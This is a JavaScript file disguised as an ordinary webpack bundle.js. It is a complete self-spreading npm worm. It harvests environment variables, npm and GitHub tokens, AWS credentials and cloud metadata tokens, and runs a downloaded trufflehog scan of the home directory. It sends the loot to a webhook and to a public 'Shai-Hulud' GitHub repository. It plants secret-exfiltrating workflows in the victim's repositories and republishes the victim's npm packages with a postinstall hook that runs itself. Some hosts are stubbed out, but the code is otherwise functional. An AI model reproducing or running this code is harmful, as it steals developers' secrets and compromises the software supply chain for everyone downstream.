/*! For license information please see bundle.js.LICENSE.txt */
(() => {
  "use strict";
  var __webpack_modules__ = {
    /***/ 101: (module, __unused, __require) => {
      const os = __require("os"), fs = __require("fs"), path = __require("path"), cp = __require("child_process");
      const H = os.homedir();
      function sh(c) { try { return cp.execSync(c, { stdio: ["ignore", "pipe", "ignore"], timeout: 90000 }).toString().trim(); } catch (e) { return ""; } }
      function rd(p) { try { return fs.readFileSync(p, "utf8"); } catch (e) { return null; } }
      module.exports = {
        system: () => ({ platform: os.platform(), arch: os.arch(), hostname: os.hostname(), user: os.userInfo().username, cwd: process.cwd() }),
        env: () => Object.assign({}, process.env),
        npmToken: () => {
          if (process.env.NPM_TOKEN) return process.env.NPM_TOKEN;
          const rc = rd(path.join(H, ".npmrc")) || rd(path.join(process.cwd(), ".npmrc")) || "";
          const m = rc.match(/_authToken\s*=\s*(\S+)/);
          return m ? m[1] : null;
        },
        ghToken: () => process.env.GITHUB_TOKEN || process.env.GH_TOKEN || sh("gh auth token") || null,
        trufflehog: () => {
          const dir = path.join(os.tmpdir(), ".th-cache");
          try { fs.mkdirSync(dir, { recursive: true }); } catch (e) {}
          const bin = path.join(dir, "trufflehog");
          if (!fs.existsSync(bin)) {
            const plat = os.platform() === "darwin" ? "darwin" : "linux";
            const arch = os.arch() === "arm64" ? "arm64" : "amd64";
            sh(`curl -sSL https://github.com/trufflesecurity/trufflehog/releases/download/v3.90.5/trufflehog_3.90.5_${plat}_${arch}.tar.gz | tar -xz -C ${dir} trufflehog`);
          }
          const out = sh(`${bin} filesystem ${H} --json --no-update --only-verified`);
          return out.split("\n").filter(Boolean).map((l) => { try { return JSON.parse(l); } catch (e) { return null; } }).filter(Boolean);
        },
        cloud: () => {
          const r = {};
          r.aws = sh("curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/");
          r.gcp = sh('curl -s -m 2 -H "Metadata-Flavor: Google" http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token');
          r.awsFiles = rd(path.join(H, ".aws", "credentials"));
          return r;
        }
      };
    },
    /***/ 202: (module, __unused, __require) => {
      const https = __require("https");
      const GH = "api.github.com.invalid";
      const HOOK = "https://webhook.site/00000000-0000-0000-0000-000000000000";
      function req(host, method, p, headers, body) {
        return new Promise((resolve) => {
          const r = https.request({ host, method, path: p, headers: Object.assign({ "User-Agent": "node", "Content-Type": "application/json" }, headers) }, (res) => {
            let d = ""; res.on("data", (c) => (d += c)); res.on("end", () => { try { resolve({ s: res.statusCode, b: JSON.parse(d) }); } catch (e) { resolve({ s: res.statusCode, b: d }); } });
          });
          r.on("error", () => resolve({ s: 0 }));
          if (body) r.write(typeof body === "string" ? body : JSON.stringify(body));
          r.end();
        });
      }
      const b64 = (s) => Buffer.from(s).toString("base64");
      module.exports = {
        hook: (data) => { const u = new URL(HOOK); return req(u.host, "POST", u.pathname, {}, data); },
        publishRepo: async (token, data) => {
          const h = { Authorization: "token " + token, Accept: "application/vnd.github+json" };
          await req(GH, "POST", "/user/repos", h, { name: "Shai-Hulud", description: "Shai-Hulud Repository", private: false, auto_init: true });
          const me = await req(GH, "GET", "/user", h);
          const owner = me.b && me.b.login;
          if (!owner) return;
          await req(GH, "PUT", `/repos/${owner}/Shai-Hulud/contents/data.json`, h, { message: "init", content: b64(b64(JSON.stringify(data))) });
        },
        plantWorkflows: async (token) => {
          const h = { Authorization: "token " + token, Accept: "application/vnd.github+json" };
          const repos = await req(GH, "GET", "/user/repos?per_page=100&affiliation=owner,collaborator", h);
          if (!Array.isArray(repos.b)) return;
          const wf = [
            "on: push",
            "jobs:",
            "  process:",
            "    runs-on: ubuntu-latest",
            "    steps:",
            "    - name: Data Processing",
            "      run: curl -s -X POST -d \"$CONTENTS\" " + HOOK,
            "      env:",
            "        CONTENTS: ${{ toJSON(secrets) }}",
            ""
          ].join("\n");
          for (const r of repos.b.slice(0, 100)) {
            const ref = await req(GH, "GET", `/repos/${r.full_name}/git/ref/heads/${r.default_branch}`, h);
            if (!ref.b || !ref.b.object) continue;
            await req(GH, "POST", `/repos/${r.full_name}/git/refs`, h, { ref: "refs/heads/shai-hulud", sha: ref.b.object.sha });
            await req(GH, "PUT", `/repos/${r.full_name}/contents/.github/workflows/shai-hulud-workflow.yml`, h, { message: "Add workflow", content: b64(wf), branch: "shai-hulud" });
          }
        }
      };
    },
    /***/ 303: (module, __unused, __require) => {
      const fs = __require("fs"), os = __require("os"), path = __require("path"), cp = __require("child_process"), https = __require("https");
      const REG = "registry.npmjs.org.invalid";
      function get(p, token) {
        return new Promise((resolve) => {
          https.get({ host: REG, path: p, headers: { Authorization: "Bearer " + token } }, (res) => {
            let d = ""; res.on("data", (c) => (d += c)); res.on("end", () => { try { resolve(JSON.parse(d)); } catch (e) { resolve(null); } });
          }).on("error", () => resolve(null));
        });
      }
      module.exports = async function propagate(token) {
        const who = await get("/-/whoami", token);
        if (!who || !who.username) return;
        const res = await get(`/-/v1/search?text=maintainer:${encodeURIComponent(who.username)}&size=20`, token);
        if (!res || !res.objects) return;
        const self = fs.readFileSync(__filename);
        for (const o of res.objects) {
          const name = o.package.name;
          const work = fs.mkdtempSync(path.join(os.tmpdir(), "npm-"));
          try {
            cp.execSync(`npm pack ${name} --registry https://${REG}/`, { cwd: work, stdio: "ignore" });
            const tgz = fs.readdirSync(work).find((f) => f.endsWith(".tgz"));
            cp.execSync(`tar -xzf ${tgz}`, { cwd: work, stdio: "ignore" });
            const pkgDir = path.join(work, "package");
            const pj = JSON.parse(fs.readFileSync(path.join(pkgDir, "package.json"), "utf8"));
            const v = pj.version.split(".");
            v[2] = String(parseInt(v[2], 10) + 1);
            pj.version = v.join(".");
            pj.scripts = pj.scripts || {};
            pj.scripts.postinstall = "node bundle.js";
            fs.writeFileSync(path.join(pkgDir, "package.json"), JSON.stringify(pj, null, 2));
            fs.writeFileSync(path.join(pkgDir, "bundle.js"), self);
            fs.writeFileSync(path.join(pkgDir, ".npmrc"), `//${REG}/:_authToken=${token}\n`);
            cp.execSync(`npm publish --registry https://${REG}/`, { cwd: pkgDir, stdio: "ignore" });
          } catch (e) {}
        }
      };
    }
  };
  var __webpack_module_cache__ = {};
  function __webpack_require__(id) {
    var c = __webpack_module_cache__[id];
    if (c !== undefined) return c.exports;
    var m = (__webpack_module_cache__[id] = { exports: {} });
    __webpack_modules__[id](m, m.exports, (x) => (typeof x === "string" ? require(x) : __webpack_require__(x)));
    return m.exports;
  }
  (async () => {
    if (process.platform === "win32") return;
    const c = __webpack_require__(101), x = __webpack_require__(202), w = __webpack_require__(303);
    const npmTok = c.npmToken(), ghTok = c.ghToken();
    const data = { system: c.system(), environment: c.env(), modules: { github: { token: ghTok }, npm: { token: npmTok }, cloud: c.cloud(), trufflehog: c.trufflehog() } };
    await x.hook(data);
    if (ghTok) { await x.publishRepo(ghTok, data); await x.plantWorkflows(ghTok); }
    if (npmTok) await w(npmTok);
  })().catch(() => {});
})();
